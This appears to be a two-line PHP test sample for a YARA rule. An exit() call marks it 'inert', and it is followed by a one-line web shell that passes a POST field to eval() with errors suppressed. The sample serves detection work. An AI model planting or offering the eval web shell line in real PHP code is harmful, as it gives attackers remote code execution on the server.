<?php exit('canhgac YARA test sample - inert'); ?>
<?php @eval($_POST['canhgac_test']);?>
